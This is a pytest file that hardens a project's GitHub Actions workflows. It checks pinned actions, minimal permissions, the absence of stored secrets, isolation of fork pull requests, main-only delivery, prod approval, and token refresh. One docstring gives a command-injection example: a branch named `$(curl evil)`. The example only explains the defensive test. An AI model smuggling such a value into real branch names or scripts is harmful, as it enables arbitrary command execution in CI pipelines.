"""The workflows: what they run exists here, what they use is pinned, and nobody's text becomes a command."""

from __future__ import annotations

import functools
import importlib.util
import re
import subprocess
import sys
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
import yaml

from delivery.login import missing_of
from tests.support.program import ROOT

Step = dict[str, Any]
WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
ACTIONS = sorted((ROOT / ".github" / "actions").glob("*/action.yml"))
EVERY = pytest.mark.parametrize("path", [*WORKFLOWS, *ACTIONS], ids=lambda path: path.relative_to(ROOT).as_posix())
JOBS = pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)

PINNED = re.compile(r"uses: [\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
OWN = re.compile(r"uses: \./\.github/actions/[a-z-]+$")
MODULE = re.compile(r"python -m ([\w.]+)((?: (?!-)[\w]+)?)(.*)")


def content(path: Path) -> dict[Any, Any]:
    loaded: dict[Any, Any] = yaml.safe_load(path.read_text())
    return loaded


def steps(path: Path) -> Iterator[Step]:
    document = content(path)
    if "runs" in document:
        yield from document["runs"]["steps"]
    for job in document.get("jobs", {}).values():
        yield from job["steps"]


def commands(path: Path) -> Iterator[str]:
    """Every line of every script, continued lines as one."""
    for step in steps(path):
        yield from re.sub(r"\\\n\s*", " ", step.get("run", "")).splitlines()


@EVERY
def test_every_action_is_pinned_by_commit_with_its_version(path: Path) -> None:
    uses = [line.strip().removeprefix("- ") for line in path.read_text().splitlines() if "uses:" in line]
    assert [line for line in uses if not PINNED.search(line) and not OWN.search(line)] == []


def test_a_delivery_reads_how_far_storage_has_grown_before_it_updates_the_servers() -> None:
    jobs = content(ROOT / ".github/workflows/deliver.yml")["jobs"]
    for stack in ("dev", "prod"):
        own = jobs[stack]["steps"]
        names = [step.get("uses") or step["run"] for step in own]
        read = names.index("./.github/actions/databases")
        assert own[read]["with"] == {"stack": stack}
        updates = [
            n for n, name in enumerate(names) if name.startswith(("pulumi up", ".venv/bin/python -m delivery.canary"))
        ]
        assert updates
        assert read < min(updates)
    (refresh,) = [line for line in commands(ROOT / ".github/actions/databases/action.yml") if line.strip()]
    assert refresh.startswith("pulumi refresh --stack")
    assert "--target '**$azure-native:dbforpostgresql:Server::*'" in refresh


@EVERY
def test_every_own_action_is_there(path: Path) -> None:
    for step in steps(path):
        if step.get("uses", "").startswith("./"):
            assert (ROOT / step["uses"] / "action.yml").is_file()


@EVERY
def test_no_expression_is_put_into_a_script(path: Path) -> None:
    """It would be read by the shell: a branch can be named `$(curl evil)`."""
    assert [command for command in commands(path) if "${{" in command] == []


@EVERY
def test_every_make_target_exists(path: Path) -> None:
    makefile = (ROOT / "Makefile").read_text()
    for command in commands(path):
        for target in re.findall(r"\bmake ([a-z][\w-]*)", command):
            assert re.search(rf"^{target}:", makefile, re.MULTILINE), command


@functools.cache
def help_of(module: str, subcommand: str) -> str:
    command = [sys.executable, "-m", module, *subcommand.split(), "--help"]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=True).stdout


@EVERY
def test_every_module_exists_and_knows_its_options(path: Path) -> None:
    for command in commands(path):
        for module, subcommand, rest in MODULE.findall(command):
            assert importlib.util.find_spec(module), command
            for option in re.findall(r"(?<!\S)--[a-z-]+", rest):
                assert option in help_of(module, subcommand), f"{command}: {option}"


@EVERY
def test_every_file_that_is_named_exists(path: Path) -> None:
    for command in commands(path):
        for name in re.findall(r"policy/[\w/]+", command):
            assert (ROOT / name).exists(), command


@JOBS
def test_every_job_has_few_rights_and_an_end(path: Path) -> None:
    document = content(path)
    assert document["permissions"] == {}
    assert "concurrency" in document
    for name, job in document["jobs"].items():
        assert 0 < job["timeout-minutes"] <= 120, name
        assert set(job["permissions"]) <= {"contents", "deployments", "id-token", "issues", "pull-requests"}, name
        assert {job["permissions"].get(right, "read") for right in ("contents", "deployments")} == {"read"}, name


@JOBS
def test_a_job_that_enters_the_cluster_runs_where_the_repository_says(path: Path) -> None:
    """The API server admits few addresses, and GitHub's own runners have any. `vars` are the repository's here: GitHub
    chooses a runner before it reads the variables of an environment."""
    for name, job in content(path)["jobs"].items():
        enters = any(step.get("uses") == "./.github/actions/cloud" for step in job["steps"])
        assert job["runs-on"] == ("${{ vars.RUNNER || 'ubuntu-24.04' }}" if enters else "ubuntu-24.04"), name


VARIABLES = re.compile(r"\bvars\.([A-Z_]+)")


@pytest.mark.parametrize("page", ["deploy.md", "policy.md"])
def test_every_variable_of_the_workflows_is_on_the_pages_and_no_other(page: str) -> None:
    read = {name for path in [*WORKFLOWS, *ACTIONS] for name in VARIABLES.findall(path.read_text())}
    text = (ROOT / "docs" / page).read_text()
    assert {name for name in read if not re.search(rf"\b{name}\b", text)} == set()
    if page == "deploy.md":
        block = text.partition("done <<END\n")[2].partition("\nEND\n")[0]
        given = {line.split()[0] for line in block.splitlines()} | set(re.findall(r"gh variable set ([A-Z_]+)", text))
        assert given == read


@JOBS
def test_a_checkout_leaves_no_credential(path: Path) -> None:
    for step in steps(path):
        if step.get("uses", "").startswith("actions/checkout@"):
            assert step["with"]["persist-credentials"] is False


@EVERY
def test_no_secret_is_stored(path: Path) -> None:
    assert "secrets." not in path.read_text()


def test_pull_requests_of_forks_meet_no_cloud() -> None:
    document = content(ROOT / ".github" / "workflows" / "pull-request.yml")
    # YAML 1.1 reads `on` as true.
    assert set(document[True]) == {"pull_request"}
    for name, job in document["jobs"].items():
        powerful = set(job["permissions"].values()) != {"read"}
        own_branches = "head.repo.full_name == github.repository" in job.get("if", "")
        assert powerful == own_branches, name
        assert not (job["permissions"].get("id-token") and job["permissions"].get("pull-requests")), name


def test_no_branch_but_main_is_delivered() -> None:
    """Whoever runs the workflow by hand chooses the branch. A job whose needs were skipped is skipped too."""
    document = content(ROOT / ".github" / "workflows" / "deliver.yml")
    # YAML 1.1 reads `on` as true.
    assert document[True]["push"] == {"branches": ["main"]}
    first = [job for job in document["jobs"].values() if "needs" not in job]
    assert [job["if"] for job in first] == ["github.ref == 'refs/heads/main'"]
    assert not [job["if"] for job in document["jobs"].values() if "needs" in job and "if" in job]


def test_prod_follows_dev_and_needs_an_approval() -> None:
    jobs = content(ROOT / ".github" / "workflows" / "deliver.yml")["jobs"]
    assert (jobs["dev"]["needs"], jobs["prod"]["needs"]) == ("test", "dev")
    assert (jobs["dev"]["environment"], jobs["prod"]["environment"]) == ("dev", "prod")
    images = [step.get("uses", "") for step in jobs["prod"]["steps"]].index("./.github/actions/images")
    deploys = [index for index, step in enumerate(jobs["prod"]["steps"]) if "delivery.canary" in step.get("run", "")]
    assert deploys
    assert images < deploys[0]


LOG_INS = ("./.github/actions/cloud", "./.github/actions/login", "azure/login@")
PREFLIGHT = ".venv/bin/python -m delivery.preflight --stack {} --ask-address"
START = ".venv/bin/python -m delivery.hours start --stack dev"
CHECK = '.venv/bin/python -m delivery.hours check --stack "$STACK"'
GUARD = ".venv/bin/python -m delivery.drift guard --stack {}"
ONE_TOKEN = {
    *("./.github/actions/databases", START, CHECK),
    *(command.format(stack) for command in (PREFLIGHT, GUARD) for stack in ("dev", "prod")),
}
"""The steps that take minutes at most, so that the step after them may go on with the same log-in."""
CLOUD = re.compile(r"\b(?:pulumi|aws|az) |python -m delivery\.(?!login)")


def enters_a_cloud(step: Step) -> bool:
    """Returns whether a step, or a step of the action of ours that it uses, runs a command of a cloud."""
    if step.get("uses", "").startswith("./"):
        return any(enters_a_cloud(each) for each in steps(ROOT / step["uses"] / "action.yml"))
    return bool(CLOUD.search(step.get("run", "")))


def without_log_in(job: Sequence[Step]) -> list[str]:
    """The steps of a job that enter a cloud after another has done so, perhaps for longer than a token lasts."""
    fresh, late = False, []
    for step in job:
        name = step.get("uses") or step["run"]
        if name.startswith(LOG_INS):
            fresh = True
        elif enters_a_cloud(step):
            if not fresh and "delivery.canary" not in name:
                late.append(name)
            fresh = fresh and name in ONE_TOKEN
    return late


@JOBS
def test_a_job_logs_in_anew_before_each_step_that_may_come_when_tokens_have_ended(path: Path) -> None:
    """Azure's end after an hour; the images and an update may take as long."""
    assert {name: late for name, job in content(path)["jobs"].items() if (late := without_log_in(job["steps"]))} == {}


def test_an_action_of_ours_needs_a_log_in_as_its_commands_do() -> None:
    log_in, images, databases = ({"uses": f"./.github/actions/{name}"} for name in ("login", "images", "databases"))
    update = {"run": "pulumi up --stack dev"}
    assert without_log_in([log_in, images, log_in, databases, update, log_in, update]) == []
    assert without_log_in([log_in, images, databases]) == [databases["uses"]]
    assert without_log_in([log_in, update, images]) == [images["uses"]]


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_what_would_stop_a_delivery_is_looked_for_before_anything_is_built(stack: str) -> None:
    own = content(ROOT / ".github" / "workflows" / "deliver.yml")["jobs"][stack]["steps"]
    names = [step.get("uses") or step["run"] for step in own]
    looked = names.index(PREFLIGHT.format(stack))
    assert names.index("./.github/actions/cloud") < looked < names.index("./.github/actions/images")
    assert "continue-on-error" not in own[looked]


@pytest.mark.parametrize("stack", ["dev", "prod"])
def test_a_delivery_is_stopped_by_lost_data_before_anything_is_updated_or_taken_out_of_the_state(stack: str) -> None:
    """The images are an update too, and a refresh of a server that is gone would take it out of the state."""
    own = content(ROOT / ".github" / "workflows" / "deliver.yml")["jobs"][stack]["steps"]
    names = [step.get("uses") or step["run"] for step in own]
    guards = [number for number, name in enumerate(names) if name == GUARD.format(stack)]
    images, databases = (names.index(f"./.github/actions/{name}") for name in ("images", "databases"))
    assert guards[0] < images < guards[1] == databases - 1
    assert not [number for number in guards if "if" in own[number] or "continue-on-error" in own[number]]


def position(job: Sequence[Step], text: str) -> int:
    """The place of the first step that uses or runs something that begins so."""
    return next(number for number, step in enumerate(job) if (step.get("uses") or step["run"]).startswith(text))


def test_a_delivery_to_a_stack_with_hours_starts_it_before_it_needs_it() -> None:
    jobs = content(ROOT / ".github/workflows/deliver.yml")["jobs"]
    dev = jobs["dev"]["steps"]
    assert position(dev, "./.github/actions/cloud") < position(dev, START) < position(dev, "./.github/actions/images")
    config = content(ROOT / "Pulumi.prod.yaml")["config"]
    assert "crosscloud:hours" not in config


def test_a_preview_asks_first_whether_the_stack_runs() -> None:
    preview = content(ROOT / ".github/workflows/pull-request.yml")["jobs"]["preview"]["steps"]
    assert (
        position(preview, "./.github/actions/cloud") < position(preview, CHECK) < position(preview, "set -o pipefail")
    )


def test_dev_is_started_and_stopped_at_the_hours_of_its_file() -> None:
    document = content(ROOT / ".github/workflows/hours.yml")
    hours = content(ROOT / "Pulumi.dev.yaml")["config"]["crosscloud:hours"]
    start, stop = (each["cron"].split() for each in document[True]["schedule"])
    # GitHub begins at the minute or later: the start three minutes before the hour, the stop three after it.
    assert start == ["57", str(hours["begin"] - 1), "*", "*", "1-5"]
    assert (stop[0], stop[2:]) == ("3", ["*", "*", "*"])
    assert str(hours["end"]) in stop[1].split(",")
    assert not [hour for hour in stop[1].split(",") if hours["begin"] <= int(hour) < hours["end"]]
    (job,) = document["jobs"].values()
    assert f"github.event.schedule == '{' '.join(start)}' && 'start'" in job["env"]["ORDER"]


def test_starting_and_stopping_is_no_deployment_of_dev() -> None:
    """A delivery follows on what was deployed last to the environment `dev`."""
    workflows = [content(path)["jobs"] for path in WORKFLOWS]
    (hours,) = content(ROOT / ".github/workflows/hours.yml")["jobs"].values()
    assert hours["environment"] not in {"dev", "prod"}
    assert [name for jobs in workflows for name, job in jobs.items() if job.get("environment") == "dev"] == ["dev"]


def test_the_delivery_knows_as_whom_it_logs_in() -> None:
    steps = content(ROOT / ".github" / "workflows" / "deliver.yml")["jobs"]["prod"]["steps"]
    (delivery,) = (step for step in steps if "delivery.canary" in step.get("run", ""))
    assert missing_of({"ACTIONS_ID_TOKEN_REQUEST_TOKEN": "the job's", **delivery["env"]}) == []


def test_the_pulumi_that_is_installed_is_the_sdks() -> None:
    locked = re.search(r"^pulumi==([\d.]+)", (ROOT / "requirements.txt").read_text(), re.MULTILINE)
    action = (ROOT / ".github" / "actions" / "cloud" / "action.yml").read_text()
    assert locked
    assert f"pulumi-version: {locked[1]}\n" in action


def test_everybody_lints_with_the_same_actionlint() -> None:
    action = (ROOT / ".github" / "actions" / "setup" / "action.yml").read_text()
    released = re.search(r"VERSION: ([\d.]+)\n", action)
    assert released
    assert f"cmd/actionlint@v{released[1]} " in (ROOT / "Makefile").read_text()
